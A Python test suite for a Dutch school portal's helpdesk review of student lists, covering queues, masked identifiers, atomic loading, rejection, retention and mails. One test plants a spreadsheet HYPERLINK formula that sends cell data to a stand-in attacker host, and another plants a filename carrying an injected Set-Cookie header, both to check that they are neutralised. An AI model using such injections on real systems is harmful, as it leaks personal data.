"""The helpdesk's review: the queue and its filters, the detail page with the comparison, Verwerken
(all or nothing, once), Afkeuren with a reason, the original file, the audit log, the mails."""
import json
import re

from portal.models import Aanlevering, Gebeurtenis, Leerling, MailBericht
from tests.aanleveringen_builder import instantie, maak_aanlevering
from tests.conftest import csrf_from

BSN = re.compile(r"(?<!\d)\d{9}(?!\d)")


def _post(client, pad, data=None, **kwargs):
    token = csrf_from(client.get("/").get_data(as_text=True))
    return client.post(pad, data={"csrf_token": token, **(data or {})}, **kwargs)


def _bsns(aanlevering):
    return {r["bsn"] for r in json.loads(aanlevering.leerlingen_json) if r.get("bsn")}


# --- access ---------------------------------------------------------------------------------------
def test_only_the_helpdesk_reaches_the_queue(app, login, client):
    a = maak_aanlevering()
    assert client.get("/helpdesk/").status_code == 302  # anonymous: log in first
    login("vo")
    for pad in ("/helpdesk/", f"/helpdesk/{a.id}", f"/helpdesk/{a.id}/bestand"):
        assert client.get(pad).status_code == 404, pad
    assert _post(client, f"/helpdesk/{a.id}/verwerken").status_code == 404
    assert Aanlevering.get_by_id(a.id).status == "ingediend" and Leerling.select().count() == 0


def test_helpdesk_menu_entry(login, client):
    login("helpdesk")
    assert 'href="/helpdesk/"' in client.get("/").get_data(as_text=True)


def test_the_menu_marks_one_entry_as_the_current_page(login, client):
    """Helpdesk and Logboek live in one blueprint: a list's page belongs to Helpdesk, the log to
    Logboek, and never are both underlined as the page you are on."""
    a = maak_aanlevering()
    login("helpdesk")
    for pad, huidig in (("/helpdesk/", "Helpdesk"), (f"/helpdesk/{a.id}", "Helpdesk"),
                        ("/helpdesk/logboek", "Logboek"), ("/leerlingen/", "Leerlingen")):
        menu = client.get(pad).get_data(as_text=True).split('aria-label="Hoofdmenu"')[1].split("</nav>")[0]
        assert re.findall(r'aria-current="page">([^<]+)<', menu) == [huidig], pad


# --- the queue ------------------------------------------------------------------------------------
def test_queue_lists_waiting_lists_newest_first_with_counts(login, client):
    oud = maak_aanlevering(aantal=2, naam="Eerste Indiener")
    nieuw = maak_aanlevering("99BA00", aantal=3, gebruiker="mbo@demo.nl", naam="Tweede Indiener")
    klaar = maak_aanlevering(aantal=1, status="verwerkt", naam="Al Verwerkt")
    login("helpdesk")
    page = client.get("/helpdesk/").get_data(as_text=True)
    assert page.index(nieuw.kenmerk) < page.index(oud.kenmerk)
    assert klaar.kenmerk not in page  # the queue opens on what waits
    assert "<strong>2</strong> aanleveringen" in page
    assert "Ingediend, wacht op controle (2)" in page and "Verwerkt (1)" in page
    alle = client.get("/helpdesk/?status=").get_data(as_text=True)
    assert klaar.kenmerk in alle and "<strong>3</strong> aanleveringen" in alle


def test_queue_filters_page_and_fragment(login, client):
    vo = maak_aanlevering(aantal=2)
    mbo = maak_aanlevering("99BA00", aantal=2, gebruiker="mbo@demo.nl", soort="niet-overstapper")
    vorig_jaar = maak_aanlevering("99AB00", aantal=1, schooljaar="2024-2025")
    login("helpdesk")
    checks = [("schoolsoort=MBO", {mbo}), ("soort=overstapper", {vo, vorig_jaar}),
              (f"instantie={instantie('99AB00').id}", {vorig_jaar}), ("schooljaar=2024-2025", {vorig_jaar}),
              ("status=afgekeurd", set())]
    for query, verwacht in checks:
        page = client.get(f"/helpdesk/?{query}")
        html = page.get_data(as_text=True)
        assert page.status_code == 200 and "<html" in html
        assert {a for a in (vo, mbo, vorig_jaar) if a.kenmerk in html} == verwacht, query
        fragment = client.get(f"/helpdesk/?{query}", headers={"HX-Request": "true"})
        stuk = fragment.get_data(as_text=True)
        assert "<html" not in stuk and 'id="filter-status"' not in stuk  # only the results are swapped
        assert {a for a in (vo, mbo, vorig_jaar) if a.kenmerk in stuk} == verwacht, query
        assert "HX-Request" in fragment.headers["Vary"]
    assert "Er zijn geen aanleveringen die bij deze filters passen." in client.get("/helpdesk/?status=afgekeurd").get_data(as_text=True)


def test_queue_form_works_with_and_without_htmx(login, client):
    login("helpdesk")
    html = client.get("/helpdesk/").get_data(as_text=True)
    formulier = re.search(r'<form method="get"[^>]*>', html).group(0)
    assert 'hx-target="#resultaten"' in formulier and 'action="/helpdesk/"' in formulier
    assert 'id="resultaten"' in html
    for veld in ("status", "schoolsoort", "soort", "instantie", "schooljaar"):
        assert f'<label for="filter-{veld}">' in html


# --- the detail page --------------------------------------------------------------------------------
def test_detail_shows_submitter_counts_rows_masked_and_warnings(login, client):
    a = maak_aanlevering(aantal=60, toelichting="Twee klassen ontbreken nog.", naam="Petra Indiener",
                         waarschuwingen=[{"code": "bsn_leading_zero_restored", "row": 3, "column": "BSN",
                                          "value": "012345672", "message": "Het BSN in rij 3 had 8 cijfers; er is een 0 voor gezet (012345672)."}])
    login("helpdesk")
    page = client.get(f"/helpdesk/{a.id}").get_data(as_text=True)
    assert "Petra Indiener" in page and "petra@school.example" in page and "Twee klassen ontbreken nog." in page
    assert "Leerling 1 tot en met 50 van 60" in page
    assert "er is een 0 voor gezet (*****5672)" in page
    assert not BSN.findall(page), "geen volledig BSN op de pagina"
    eerste = json.loads(a.leerlingen_json)[0]
    assert "*****" + eerste["bsn"][-4:] in page
    tweede = client.get(f"/helpdesk/{a.id}?pagina=2", headers={"HX-Request": "true"}).get_data(as_text=True)
    assert "<html" not in tweede and 'id="rijen-kop"' not in tweede  # only the rows are swapped
    assert "Leerling 51 tot en met 60 van 60" in tweede and "Pagina 2 van 2" in tweede
    assert json.loads(a.leerlingen_json)[59]["leerlingnummer"] in tweede


def test_detail_compares_with_what_the_system_holds(app, login, client):
    eerste = maak_aanlevering(aantal=4)
    from portal import verwerken
    verwerken.verwerk(eerste)
    rijen = json.loads(eerste.leerlingen_json)
    # The new list: row 1 changed (achternaam, klas), row 2 unchanged, rows 3-4 missing, one new student.
    rijen[0] = {**rijen[0], "achternaam": "Anders", "klas": "9Z"}
    nieuw = {**rijen[1], "leerlingnummer": "NIEUW-1", "bsn": None, "onderwijsnummer": "101222331", "rij": 4}
    tweede = maak_aanlevering(rijen=[rijen[0], rijen[1], nieuw])
    login("helpdesk")
    page = client.get(f"/helpdesk/{tweede.id}").get_data(as_text=True)
    vergelijking = re.search(r'<ul class="vergelijking">(.*?)</ul>', page, re.S).group(1)
    assert re.sub(r"\s+", " ", re.sub("<[^>]+>", "", vergelijking)).strip() == \
        "1 nieuw 1 gewijzigd 1 ongewijzigd 2 in het systeem maar niet in deze lijst"
    gewijzigd = re.search(r'<table id="gewijzigd">(.*?)</table>', page, re.S).group(1)
    assert "Achternaam, Klas" in gewijzigd
    ontbrekend = re.search(r'<table id="ontbrekend">(.*?)</table>', page, re.S).group(1)
    assert rijen[2]["leerlingnummer"] in ontbrekend and rijen[3]["leerlingnummer"] in ontbrekend


def test_a_known_leerlingnummer_with_another_bsn_is_flagged_before_verwerken(app, login, client):
    """A school that gives a departed student's leerlingnummer to a new child: the list 'changes'
    that student's BSN, name and birth date. The helpdesk is warned, with the numbers masked, on the
    page and in the question before Verwerken, since loading would overwrite the other child."""
    from portal import verwerken
    from portal.models import masker
    eerste = maak_aanlevering(aantal=3)
    verwerken.verwerk(eerste)
    oud = json.loads(eerste.leerlingen_json)
    ander = json.loads(maak_aanlevering("99AB00", aantal=1, seed=7).leerlingen_json)[0]
    rijen = [{**ander, "leerlingnummer": oud[0]["leerlingnummer"], "rij": 2},
             {**oud[1], "klas": "9Z", "rij": 3}, {**oud[2], "rij": 4}]   # row 3 changes only its class
    tweede = maak_aanlevering(rijen=rijen)
    login("helpdesk")
    page = client.get(f"/helpdesk/{tweede.id}").get_data(as_text=True)
    blok = re.search(r'<div class="melding melding--waarschuwing" id="ander-nummer">(.*?)</table>', page, re.S).group(1)
    tekst = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", blok))
    assert "Let op: 1 bekend leerlingnummer met een ander BSN of onderwijsnummer" in tekst
    assert f"{masker(oud[0]['bsn'])} → {masker(ander['bsn'])}" in tekst and oud[0]["achternaam"] in tekst
    assert oud[1]["leerlingnummer"] not in tekst                          # a changed class is no alarm
    assert oud[0]["bsn"] not in page and ander["bsn"] not in page
    vraag = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", client.get(f"/helpdesk/{tweede.id}/verwerken").get_data(as_text=True)))
    assert "bij 1 bekend leerlingnummer staat een ander BSN of onderwijsnummer dan in het systeem" in vraag
    assert "Let op" not in client.get(f"/helpdesk/{eerste.id}").get_data(as_text=True)


def test_registered_elsewhere_names_the_other_school_to_the_helpdesk_only(app, login, client):
    elders = maak_aanlevering("99BA00", aantal=2, gebruiker="mbo@demo.nl")
    from portal import verwerken
    verwerken.verwerk(elders)
    bsn = json.loads(elders.leerlingen_json)[0]["bsn"]
    rij = json.loads(maak_aanlevering(aantal=1).leerlingen_json)[0]
    hier = maak_aanlevering(rijen=[{**rij, "bsn": bsn}],
                            waarschuwingen=[{"code": "registered_elsewhere", "row": 2, "column": "BSN", "value": None,
                                             "message": "Dit BSN is ook bekend bij een andere instantie."}])
    login("helpdesk")
    page = client.get(f"/helpdesk/{hier.id}").get_data(as_text=True)
    lijst = re.search(r'<ul id="elders">(.*?)</ul>', page, re.S).group(1)
    assert "ROC Voorbeeldstad" in lijst and "Rij 2" in lijst and "*****" + bsn[-4:] in lijst
    assert "ook bekend bij een andere instantie" in page
    client.post("/uitloggen", data={"csrf_token": csrf_from(page)})
    login("vo")
    school = client.get(f"/aanleveringen/{hier.id}").get_data(as_text=True)
    assert hier.kenmerk in school
    assert "ROC Voorbeeldstad" not in school and "ook bekend bij een andere instantie" not in school


# --- Verwerken --------------------------------------------------------------------------------------
def _verwerk(client, aanlevering_id, **kwargs):
    """Verwerken as the helpdesk does it: the button, then "Ja, … verwerken" on the confirmation page."""
    return _post(client, f"/helpdesk/{aanlevering_id}/verwerken", {"bevestigd": "ja"}, **kwargs)


def test_verwerken_asks_first_how_many_will_be_added_and_changed(app, login, client):
    """Issue 11, point 14: Verwerken (even of 10,000 students) is never one click; the plain-HTML
    confirmation step says how many students are added and changed."""
    from portal import verwerken
    eerder = maak_aanlevering(aantal=3)
    verwerken.verwerk(eerder)
    rijen = json.loads(eerder.leerlingen_json)
    rijen[0]["woonplaats"] = "Zwolle"
    extra = json.loads(maak_aanlevering("99AB00", aantal=5, seed=9).leerlingen_json)
    for i, rij in enumerate(extra):
        rij["leerlingnummer"] = f"N{i}"
    a = maak_aanlevering(rijen=rijen + extra)
    login("helpdesk")
    detail = client.get(f"/helpdesk/{a.id}").get_data(as_text=True)
    knop = re.search(r'<form method="(\w+)" action="/helpdesk/%d/verwerken"' % a.id, detail)
    assert knop and knop.group(1) == "get"                     # the button only opens the question
    for response in (client.get(f"/helpdesk/{a.id}/verwerken"), _post(client, f"/helpdesk/{a.id}/verwerken")):
        assert response.status_code == 200
        vraag = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", response.get_data(as_text=True)))
        assert f"Lijst {a.kenmerk} verwerken?" in vraag
        assert "5 leerlingen worden toegevoegd" in vraag and "1 leerling wordt bijgewerkt" in vraag
        assert "2 leerlingen blijven ongewijzigd" in vraag and "niet ongedaan" in vraag
        assert 'name="bevestigd" value="ja"' in response.get_data(as_text=True)
        assert "Ja, 8 leerlingen verwerken" in vraag and "Annuleren" in vraag
    assert Aanlevering.get_by_id(a.id).status == "ingediend" and MailBericht.select().count() == 0
    assert Leerling.select().count() == 3
    assert _verwerk(client, a.id).status_code == 303
    assert Leerling.select().count() == 8


def test_after_loading_the_page_says_what_the_load_did(app, login, client):
    """Issue 11, point 14: not a fresh comparison reading "0 nieuw, 20 ongewijzigd"."""
    a = maak_aanlevering(aantal=20)
    login("helpdesk")
    response = _verwerk(client, a.id, follow_redirects=True)
    leesbaar = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", response.get_data(as_text=True)))
    assert "is verwerkt: 20 leerlingen toegevoegd, 0 bijgewerkt, 0 ongewijzigd" in leesbaar
    later = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", client.get(f"/helpdesk/{a.id}").get_data(as_text=True)))
    assert "Resultaat van het verwerken" in later and "20 leerlingen toegevoegd" in later
    assert "Vergelijking met het systeem" not in later and not re.search(r"(?<!\d)0 nieuw", later)


def test_phone_numbers_are_shown_as_people_write_them(app, login, client):
    """Issue 11, point 14 (smaller points): 06-12345678, not +31612345678."""
    rijen = json.loads(maak_aanlevering("99AB00", aantal=1).leerlingen_json)
    rijen[0]["telefoonnummer"] = "+31614037655"
    a = maak_aanlevering(rijen=rijen)
    login("helpdesk")
    page = client.get(f"/helpdesk/{a.id}").get_data(as_text=True)
    assert "06-14037655" in page and "+31614037655" not in page


def test_verwerken_loads_the_students_and_mails_the_submitter(app, login, client):
    a = maak_aanlevering(aantal=12)
    login("helpdesk")
    response = _verwerk(client, a.id)
    assert response.status_code == 303 and response.headers["Location"].endswith(f"/helpdesk/{a.id}")
    assert Leerling.select().where(Leerling.instantie == a.instantie).count() == 12
    leerling = Leerling.get(Leerling.leerlingnummer == "000001")
    rij = json.loads(a.leerlingen_json)[0]
    assert (leerling.bsn, leerling.achternaam, leerling.geboortedatum.isoformat(), leerling.type, leerling.schooljaar,
            leerling.aanlevering_id) == (rij["bsn"], rij["achternaam"], rij["geboortedatum"], "overstapper", "2025-2026", a.id)
    a = Aanlevering.get_by_id(a.id)
    assert a.status == "verwerkt" and a.behandelaar.email == "helpdesk@demo.nl" and a.behandeld
    page = client.get(f"/helpdesk/{a.id}").get_data(as_text=True)
    assert "is verwerkt: 12 leerlingen toegevoegd, 0 bijgewerkt, 0 ongewijzigd" in page
    assert ">Verwerken</button>" not in page  # nothing left to press
    log = re.search(r'<table id="logboek">(.*?)</table>', page, re.S).group(1)
    assert "Hanna de Helpdesk" in log and "verwerkt" in log
    mail = MailBericht.get(MailBericht.aan == "petra@school.example")
    assert a.kenmerk in mail.onderwerp and "verwerkt" in mail.onderwerp
    assert "12 leerlingen" in mail.tekst and f"/aanleveringen/{a.id}" in mail.tekst
    for tekst in (mail.tekst, mail.html):
        assert not _bsns(a) & set(BSN.findall(tekst)) and rij["achternaam"] not in tekst


def test_verwerken_updates_by_instantie_and_leerlingnummer(app):
    from portal import verwerken
    eerste = maak_aanlevering(aantal=3)
    verwerken.verwerk(eerste)
    andere_school = maak_aanlevering("99AB00", aantal=3)  # same leerlingnummers, another instantie
    verwerken.verwerk(andere_school)
    rijen = json.loads(eerste.leerlingen_json)
    rijen[0]["woonplaats"] = "Zwolle"
    tweede = maak_aanlevering(rijen=rijen, schooljaar="2026-2027")
    uitkomst = verwerken.verwerk(tweede)
    assert (uitkomst.nieuw, uitkomst.bijgewerkt, uitkomst.ongewijzigd) == (0, 3, 0)  # schooljaar changed for all
    assert Leerling.select().count() == 6
    hier = Leerling.get((Leerling.instantie == instantie("99AA00")) & (Leerling.leerlingnummer == rijen[0]["leerlingnummer"]))
    daar = Leerling.get((Leerling.instantie == instantie("99AB00")) & (Leerling.leerlingnummer == rijen[0]["leerlingnummer"]))
    assert (hier.woonplaats, hier.schooljaar, hier.aanlevering_id) == ("Zwolle", "2026-2027", tweede.id)
    assert daar.schooljaar == "2025-2026" and daar.aanlevering_id == andere_school.id
    derde = maak_aanlevering(rijen=rijen, schooljaar="2026-2027")
    assert verwerken.verwerk(derde).ongewijzigd == 3


def test_a_fault_halfway_leaves_nothing_loaded(app, login, client, monkeypatch):
    from portal import verwerken
    bestaand = maak_aanlevering(aantal=5)
    verwerken.verwerk(bestaand)
    rijen = json.loads(bestaand.leerlingen_json)
    rijen[0]["achternaam"] = "Gewijzigd"
    extra = json.loads(maak_aanlevering("99AB00", aantal=30, seed=7).leerlingen_json)
    for i, rij in enumerate(extra):
        rij["leerlingnummer"] = f"N{i}"
    a = maak_aanlevering(rijen=rijen + extra)
    echte_invoegen, aanroepen = verwerken._invoegen, []

    def invoegen_dan_storing(*args):
        echte_invoegen(*args)
        aanroepen.append(Leerling.select().count())     # the 30 new students are in the table
        raise RuntimeError("schijf vol")
    monkeypatch.setattr(verwerken, "_invoegen", invoegen_dan_storing)
    login("helpdesk")
    response = _verwerk(client, a.id)
    assert response.status_code == 500
    assert "Er ging iets mis" in response.get_data(as_text=True)
    assert aanroepen == [35]
    assert Leerling.select().count() == 5  # only the earlier list
    assert Leerling.get(Leerling.leerlingnummer == rijen[0]["leerlingnummer"]).achternaam != "Gewijzigd"
    a = Aanlevering.get_by_id(a.id)
    assert a.status == "ingediend" and a.behandelaar is None
    assert MailBericht.select().count() == 0
    assert not Gebeurtenis.select().where((Gebeurtenis.aanlevering == a) & (Gebeurtenis.actie == "verwerkt")).exists()
    monkeypatch.setattr(verwerken, "_invoegen", echte_invoegen)
    assert _verwerk(client, a.id).status_code == 303  # and it can be loaded afterwards
    assert Leerling.select().count() == 35


def test_the_claim_refuses_a_second_load(app, login, client):
    from portal import verwerken
    a = maak_aanlevering(aantal=4)
    tweede_blik = Aanlevering.get_by_id(a.id)  # a second helpdesk user with the page still open
    verwerken.verwerk(a)
    try:
        verwerken.verwerk(tweede_blik)
    except verwerken.NietMeerIngediend:
        pass
    else:
        raise AssertionError("de tweede keer mag niet laden")
    assert Leerling.select().count() == 4
    login("helpdesk")
    response = _verwerk(client, a.id, follow_redirects=True)
    assert "intussen al behandeld" in response.get_data(as_text=True)
    assert MailBericht.select().count() == 0 and Leerling.select().count() == 4


def test_two_simultaneous_loads_load_once(app, database_url):
    """Two threads, each with its own connection, press Verwerken at the same moment."""
    import threading
    from portal import mail, verwerken
    from portal.extensions import db
    a = maak_aanlevering(aantal=300)
    start = threading.Barrier(2)
    uitkomsten = []

    def druk():
        with app.test_request_context():
            db.database.connect(reuse_if_open=True)
            try:
                kopie = Aanlevering.get_by_id(a.id)
                start.wait()
                with db.database.atomic():
                    verwerken.verwerk(kopie)
                    mail.queue(kopie.email, "verwerkt", "verwerkt", aanlevering=kopie,
                               uitkomst=verwerken.Uitkomst(), link="x")
                uitkomsten.append("geladen")
            except verwerken.NietMeerIngediend:
                uitkomsten.append("geweigerd")
            finally:
                db.database.close()
    threads = [threading.Thread(target=druk) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert sorted(uitkomsten) == ["geladen", "geweigerd"]
    assert Leerling.select().count() == 300
    assert MailBericht.select().count() == 1
    assert Gebeurtenis.select().where(Gebeurtenis.actie == "verwerkt").count() == 1


# --- Afkeuren ---------------------------------------------------------------------------------------
def test_afkeuren_needs_a_reason(login, client):
    a = maak_aanlevering(aantal=2)
    login("helpdesk")
    response = _post(client, f"/helpdesk/{a.id}/afkeuren", {"reden": "   "})
    assert response.status_code == 422
    assert "Vul de reden in" in response.get_data(as_text=True)
    assert Aanlevering.get_by_id(a.id).status == "ingediend" and MailBericht.select().count() == 0


def test_afkeuren_sends_the_reason_without_a_bsn(login, client):
    a = maak_aanlevering(aantal=2, kanaal="publiek", gebruiker=None)
    bsn = json.loads(a.leerlingen_json)[0]["bsn"]
    login("helpdesk")
    reden = f"Kolom Klas is leeg bij leerling met BSN {bsn}; vul de klassen in."
    assert _post(client, f"/helpdesk/{a.id}/afkeuren", {"reden": reden}).status_code == 303
    a = Aanlevering.get_by_id(a.id)
    assert a.status == "afgekeurd" and bsn not in a.reden and "*****" + bsn[-4:] in a.reden
    mail = MailBericht.get(MailBericht.aan == "petra@school.example")
    assert "teruggestuurd" in mail.onderwerp
    assert "Kolom Klas is leeg" in mail.tekst and "vul de klassen in" in mail.html
    assert f"/leerlinglijst/status/{a.status_token}" in mail.tekst  # a visitor gets the status link
    assert bsn not in mail.tekst and bsn not in mail.html
    assert Leerling.select().count() == 0
    assert Gebeurtenis.get(Gebeurtenis.actie == "afgekeurd").details == a.reden
    assert _verwerk(client, a.id).status_code == 303
    assert Leerling.select().count() == 0  # a rejected list is not loaded afterwards


# --- the original file --------------------------------------------------------------------------------
def test_download_is_a_values_only_copy_as_attachment(login, client):
    a = maak_aanlevering(aantal=2, bestandsnaam="klas 4 (definitief).xlsx")
    login("helpdesk")
    response = client.get(f"/helpdesk/{a.id}/bestand")
    assert response.status_code == 200 and response.data != bytes(a.bestand)
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert "klas 4 (definitief).xlsx" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert Gebeurtenis.get(Gebeurtenis.actie == "bestand_gedownload").gebruiker.email == "helpdesk@demo.nl"
    # The copy is the checked list itself: it passes the same check, with the same rows.
    from portal.lijsten.formats import format_voor
    from portal.lijsten.validate import check_bytes
    from tests.builders import VANDAAG
    resultaat = check_bytes(response.data, format_voor("VO", "overstapper"), vandaag=VANDAAG)
    assert resultaat.ok and [r["leerlingnummer"] for r in resultaat.leerlingen] == [r["leerlingnummer"] for r in json.loads(a.leerlingen_json)]


def test_no_formula_reaches_the_helpdesk(login, client):
    """An upload with a live HYPERLINK formula (and a cell text that looks like one): the helpdesk's
    copy has no <f> element at all, and the text is a text cell with a quote prefix."""
    import io
    import zipfile
    from openpyxl import load_workbook
    from portal.lijsten.formats import format_voor
    from tests.aanleveringen_builder import schone_rijen
    from tests.builders import make_xlsx, leerlingen, titel
    fmt = format_voor("VO", "overstapper")
    rijen_met_formule = leerlingen(fmt, 2, seed=5)
    rijen_met_formule[0][titel(fmt, "mentor")] = '=HYPERLINK("http://kwaad.example/?x="&B2,"mevr. De Vries")'
    origineel = make_xlsx(fmt, rijen_met_formule)
    assert b"<f>" in b"".join(zipfile.ZipFile(io.BytesIO(origineel)).read(n) for n in zipfile.ZipFile(io.BytesIO(origineel)).namelist())
    rijen, _ = schone_rijen(fmt, 2, seed=5)
    rijen[0]["mentor"] = '=HYPERLINK("http://kwaad.example/?x="&B2,"x")'
    a = maak_aanlevering(rijen=rijen, bestand=origineel)
    login("helpdesk")
    data = client.get(f"/helpdesk/{a.id}/bestand").data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = b"".join(z.read(naam) for naam in z.namelist() if naam.endswith(".xml"))
    assert b"<f>" not in xml and b"<f " not in xml
    blad = load_workbook(io.BytesIO(data)).active
    kolom = [c.value for c in blad[1]].index(titel(fmt, "mentor")) + 1
    cel = blad.cell(row=2, column=kolom)
    assert cel.data_type == "s" and cel.value.startswith("=HYPERLINK") and cel.quotePrefix


def test_download_name_has_no_control_characters(login, client):
    a = maak_aanlevering(aantal=1, bestandsnaam="klas\x01 4\r\nSet-Cookie: x=1\t.csv")
    login("helpdesk")
    response = client.get(f"/helpdesk/{a.id}/bestand")
    kop = response.headers["Content-Disposition"]
    assert response.status_code == 200 and not re.search(r"[\x00-\x1f\x7f]", kop)
    assert "Set-Cookie" in kop and kop.endswith('.xlsx"')


# --- retention --------------------------------------------------------------------------------------
def test_retention_command_deletes_old_files_only(app):
    from datetime import timedelta
    from portal.models import nu
    oud = nu() - timedelta(days=100)
    verwerkt = maak_aanlevering(aantal=2, status="verwerkt", behandeld=oud)
    afgekeurd = maak_aanlevering(aantal=2, status="afgekeurd", behandeld=oud, reden="x")
    ingetrokken = maak_aanlevering(aantal=2, status="ingetrokken", behandeld=oud)
    recent = maak_aanlevering(aantal=2, status="verwerkt", behandeld=nu() - timedelta(days=10))
    wacht = maak_aanlevering(aantal=2, aangemaakt=oud)  # still waiting: kept however old
    runner = app.test_cli_runner()
    result = runner.invoke(args=["helpdesk", "opschonen"])  # default: BEWAARTERMIJN_DAGEN = 90
    assert result.exit_code == 0, result.output
    assert "3 originele bestanden verwijderd" in result.output
    for a in (verwerkt, afgekeurd, ingetrokken):
        a = Aanlevering.get_by_id(a.id)
        assert a.bestand is None and a.leerlingen_json == "[]"
        assert a.aantal_leerlingen == 2 and a.kenmerk and a.status in ("verwerkt", "afgekeurd", "ingetrokken")
        assert Gebeurtenis.get((Gebeurtenis.aanlevering == a) & (Gebeurtenis.actie == "bestand_verwijderd"))
    for a in (recent, wacht):
        assert Aanlevering.get_by_id(a.id).bestand is not None
    result = runner.invoke(args=["helpdesk", "opschonen", "--dagen", "5"])
    assert "1 originele bestanden verwijderd" in result.output
    assert Aanlevering.get_by_id(recent.id).bestand is None
    assert Aanlevering.get_by_id(wacht.id).bestand is not None
    assert runner.invoke(args=["helpdesk", "opschonen", "--dagen", "nul"]).exit_code == 2


def test_after_retention_the_detail_page_still_works(login, client):
    from datetime import timedelta
    from portal import verwerken
    from portal.models import nu
    a = maak_aanlevering(aantal=2, status="verwerkt", behandeld=nu() - timedelta(days=400))
    verwerken.opschonen(90)
    login("helpdesk")
    page = client.get(f"/helpdesk/{a.id}").get_data(as_text=True)
    assert "verwijderd na de bewaartermijn" in page and "niet (meer) bewaard" in page
    response = client.get(f"/helpdesk/{a.id}/bestand", follow_redirects=True)
    assert "Het originele bestand is na de bewaartermijn verwijderd." in response.get_data(as_text=True)


def test_retention_command_also_removes_expired_failed_checks(app):
    from datetime import timedelta
    from portal.models import Controle, nu
    velden = dict(kanaal="publiek", schoolsoort="VO", soort="overstapper", bestandsnaam="fout.xlsx", bestand=b"PK")
    oud = Controle.create(aangemaakt=nu() - timedelta(hours=4), **velden)
    vers = Controle.create(**velden)
    result = app.test_cli_runner().invoke(args=["helpdesk", "opschonen"])
    assert "1 verlopen controles van foute bestanden verwijderd." in result.output
    assert Controle.get_or_none(Controle.id == oud.id) is None and Controle.get_or_none(Controle.id == vers.id)


# --- Intrekken: the submitter's side of the same rule ----------------------------------------------
def test_intrekken_asks_first_in_plain_html(login, client):
    """Issue 11, point 14: Intrekken on Mijn aanleveringen and on the status page (also the old
    form, a POST without `bevestigd`) opens a confirmation step; only its form withdraws."""
    a = maak_aanlevering(aantal=3)
    login("vo")
    mijn = client.get("/aanleveringen/").get_data(as_text=True)
    assert f'href="/aanleveringen/{a.id}/intrekken"' in mijn
    for response in (client.get(f"/aanleveringen/{a.id}/intrekken"), _post(client, f"/aanleveringen/{a.id}/intrekken")):
        assert response.status_code == 200
        vraag = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", response.get_data(as_text=True)))
        assert f"Lijst {a.kenmerk} intrekken?" in vraag and "niet ongedaan" in vraag and "3 leerlingen" in vraag
        assert f"Ja, lijst {a.kenmerk} intrekken" in vraag and "Annuleren" in vraag
    assert Aanlevering.get_by_id(a.id).status == "ingediend"
    response = _post(client, f"/aanleveringen/{a.id}/intrekken", {"bevestigd": "ja"})
    assert response.status_code == 303 and Aanlevering.get_by_id(a.id).status == "ingetrokken"


def test_public_intrekken_asks_first(client):
    a = maak_aanlevering(aantal=2, kanaal="publiek", gebruiker=None)
    pad = f"/leerlinglijst/status/{a.status_token}/intrekken"
    response = client.get(pad)
    assert response.status_code == 200 and f"Lijst {a.kenmerk} intrekken?" in response.get_data(as_text=True)
    token = csrf_from(response.get_data(as_text=True))
    assert client.post(pad, data={"csrf_token": token}).status_code == 200
    assert Aanlevering.get_by_id(a.id).status == "ingediend"
    assert client.post(pad, data={"csrf_token": token, "bevestigd": "ja"}).status_code == 303
    assert Aanlevering.get_by_id(a.id).status == "ingetrokken"


# --- Contact and names in the mails ------------------------------------------------------------------
def test_every_mail_names_the_helpdesk_and_replies_reach_it(app, login, client, smtp_server):
    """Issue 11, point 11: the helpdesk's e-mail and phone in every mail, a Reply-To that reaches the
    helpdesk (not a dead noreply), signed with the product name."""
    from portal import mail
    smtp_server.start()
    app.config.update(MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, HELPDESK_TELEFOON="030-7654321")
    state = app.extensions["mail"]  # Flask-Mail read its settings at start-up, and suppresses mail under TESTING
    state.server, state.port, state.suppress = "127.0.0.1", smtp_server.port, False
    a = maak_aanlevering(aantal=2)
    login("helpdesk")
    assert _post(client, f"/helpdesk/{a.id}/verwerken", {"bevestigd": "ja"}).status_code == 303
    b = maak_aanlevering(aantal=2, seed=3)
    assert _post(client, f"/helpdesk/{b.id}/afkeuren", {"reden": "Gebruik het nieuwe format."}).status_code == 303
    with app.test_request_context():                      # the other mails to people outside the helpdesk
        from portal.models import Gebruiker
        mail.queue("petra@school.example", "Bevestiging", "bevestiging", aanlevering=a, soort_naam="Potentiële overstapper",
                   aantal_waarschuwingen=0, status_link="http://x/status")
        mail.queue("vo@demo.nl", "Wachtwoord", "wachtwoord_herstellen", gebruiker=Gebruiker.met_email("vo@demo.nl"),
                   link="http://x/herstellen")
    assert {m.onderwerp for m in MailBericht.select()} >= {"Bevestiging", "Wachtwoord"}
    for bericht in MailBericht.select():
        for deel in (bericht.tekst, bericht.html):
            assert "helpdesk-team@voorbeeld.nl" in deel and "030-7654321" in deel, bericht.onderwerp
            assert "De helpdesk van InterGrip" in deel and "Leerlinglijst\n" not in deel
        assert "U kunt er niet op antwoorden" not in bericht.html
    with app.app_context():
        verzonden, mislukt = mail.send_pending()
    assert (verzonden, mislukt) == (4, 0)
    assert len(smtp_server.berichten) == 4
    for ontvangen in smtp_server.berichten:
        assert ontvangen["Reply-To"] == "helpdesk-team@voorbeeld.nl"
